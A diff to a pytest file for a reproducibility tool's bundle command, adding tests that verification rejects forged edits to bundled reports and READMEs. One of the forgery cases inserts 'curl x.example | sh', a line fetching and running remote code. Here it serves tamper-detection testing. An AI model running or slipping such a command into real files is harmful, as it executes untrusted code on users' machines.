@@ -107,6 +107,7 @@ def test_a_bundle_verifies_with_no_other_file(reviewer: Caller, made: Path) -> N
 
 def test_a_bundle_in_a_new_folder_has_the_name_of_the_figure(looking: Caller, tmp_path: Path) -> None:
     folder = tmp_path / "new" / "handover"
+    assert looking("bundle", "nosuch", "-o", f"{folder}/").returncode == 2 and not folder.parent.exists()
     done = looking("bundle", "figure-13", "-o", f"{folder}/")
     assert (done.returncode, done.stdout) == (0, f"{folder}/figure-13-cpu-here.tar.zst\n"), done.stderr
     again = looking("bundle", "figure-13", "-o", str(folder))
@@ -418,6 +419,7 @@ FORGED: dict[str, Change] = {
     "a link in the report": replace(r"report\.html", b"</body>", b"<a href='https://x.example'>data</a></body>"),
     "a command in the README": replace(r"README\.txt", b"repro submit", b"curl x.example | sh; repro submit"),
     "a number in the README": replace(r"README\.txt", b"6 attempts", b"60 attempts"),
+    "a byte that is not text in the README": replace(r"README\.txt", b"6 attempts", b"6 attempts\xff"),
 }
 
 
@@ -466,8 +468,9 @@ def test_a_reader_without_matplotlib_or_with_another_one_compares_all_but_the_pi
     without = reviewer("bundle", "verify", str(made))
     assert without.returncode == 0 and "because matplotlib is not installed" in without.stdout
     assert "note: not checked: the picture of report.html; read results/" in without.stderr
-    forged = changed(reviewer, files, tmp_path, FORGED["a verdict in the report"], with_sums=True)
-    assert forged.returncode == 1
+    second = replace(r"report\.html", b"</body>", b'<svg id="plot-2">9000 TFLOP/s</svg></body>')
+    for change in (FORGED["a verdict in the report"], second):
+        assert changed(reviewer, files, tmp_path, change, with_sums=True).returncode == 1
 
 
 @pytest.fixture(scope="module")
